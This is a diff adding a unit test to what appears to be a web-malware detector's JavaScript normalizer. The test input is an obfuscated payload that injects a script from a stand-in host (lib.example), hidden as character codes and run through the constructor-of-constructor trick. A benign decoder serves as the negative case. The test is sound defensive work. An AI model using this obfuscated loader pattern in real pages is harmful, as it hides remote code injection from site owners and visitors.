@@ -416,5 +416,21 @@ TEST(BehaviourJs, CodeFromAWebSocketPutIntoAScriptElement) {
                    "js.remote_code", 1));
 }
 
+TEST(BehaviourJs, ConstructorOfConstructorRunsCharacterCodesPassedAsAnArray) {
+  std::string code = "var s=document.createElement('script');s.src='https://lib.example/x.js';";
+  std::string codes;
+  for (char c : code) codes += (codes.empty() ? "" : ",") + std::to_string(int(c));
+  NormalizedCode n = Normalize(
+      "[]['constructor']['constructor'](String.fromCharCode.apply(null,[" + codes + "]))();",
+      CodeKind::kJs);
+  EXPECT_TRUE(Has(n.traits, "js.script_injection"));
+  // A UTF-16 decoder applying fromCharCode to a buffer it was given: nothing to fold.
+  NormalizedCode d = Normalize(
+      "function decode(buf){return String.fromCharCode.apply(null,new Uint16Array(buf));}",
+      CodeKind::kJs);
+  EXPECT_TRUE(d.traits.empty());
+  EXPECT_EQ(d.layers.size(), 1u);
+}
+
 }  // namespace
 }  // namespace tq::webroot
